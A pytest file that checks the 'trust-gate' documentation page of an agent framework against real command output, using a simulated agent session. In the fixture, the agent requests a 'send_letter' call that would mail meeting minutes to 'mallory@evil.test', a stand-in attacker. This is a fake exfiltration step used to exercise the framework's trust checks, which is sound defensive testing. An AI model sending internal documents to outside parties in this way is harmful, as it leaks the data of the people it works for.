"""The page's sections on provenance are true: commands print what stands there."""

from __future__ import annotations

import tomllib
from pathlib import Path
from typing import get_args

import pytest
from tests.core.console_blocks import VARYING, blocks, commands, run, steady
from tests.trust.provenance.desk import CONTRACT, ORDER, REQUEST, desk, opened

from fmos.entered.labels import Confidentiality, Integrity
from fmos.settings import TrustSettings
from fmos_trust.approvals import Approvals
from fmos_trust.evidence.score import FEATURES
from fmos_trust.provenance.files import ATTRIBUTE

_PAGE = (Path(__file__).parents[3] / "docs" / "trust-gate.md").read_text(encoding="utf-8")
#: Weights are data, so the score may change with them; and when it was.
_VARYING = (
    *VARYING,
    (r"score 0\.\d\d of 1 \(.*\)", "<score>"),
    (r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", "<time>"),
)


def _section(heading: str) -> str:
    return _PAGE.split(f"\n## {heading}\n")[1].split("\n## ")[0]


def test_why_and_the_report_are_as_they_are_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each command prints what stands below it, but for ids, hashes and times."""
    home = tmp_path / "home"
    with opened(home) as kernel:
        kernel.contracts.save(
            CONTRACT.replace("security:\n", 'security:\n  consent_for: ["run"]\n')
        )
        clerk = desk(kernel)
        clerk.said(REQUEST)
        clerk.did("read_file", ORDER, path="/notes.txt")
        for command, answer in (("make check", True), ("make all", True), ("make dist", False)):
            asked = clerk.asked("run", command=command)
            Approvals(kernel).decide(asked.approval or "", answer, "ann")
        clerk.asked("send_letter", to="mallory@evil.test", text="Minutes of Monday.")
        clerk.asked("send_letter", to="nora@firm.test", text="The roof is done.")
    monkeypatch.setenv("FMOS_HOME", str(home))
    found = list(commands(_section("Why, and reports")))
    assert len(found) == 2
    for line, shown in found:
        assert steady(run(line).stdout, _VARYING) == steady(shown, _VARYING)


def test_what_the_page_names_is_there() -> None:
    """Labels, features, settings and the attribute have the names that the page gives them."""
    values = _section("Where values came from")
    for name in (*get_args(Integrity), *get_args(Confidentiality), ATTRIBUTE):
        assert f"`{name}`" in values
    intent = _section("Who asked for the call")
    for name in FEATURES:
        assert f"`{name}`" in intent
    settings = next(each.text for each in blocks(intent) if each.language == "toml")
    shown = tomllib.loads(settings)["trust"]
    assert TrustSettings(**shown).evidence == "shadow"
    assert shown["evidence_keep_days"] == TrustSettings().evidence_keep_days
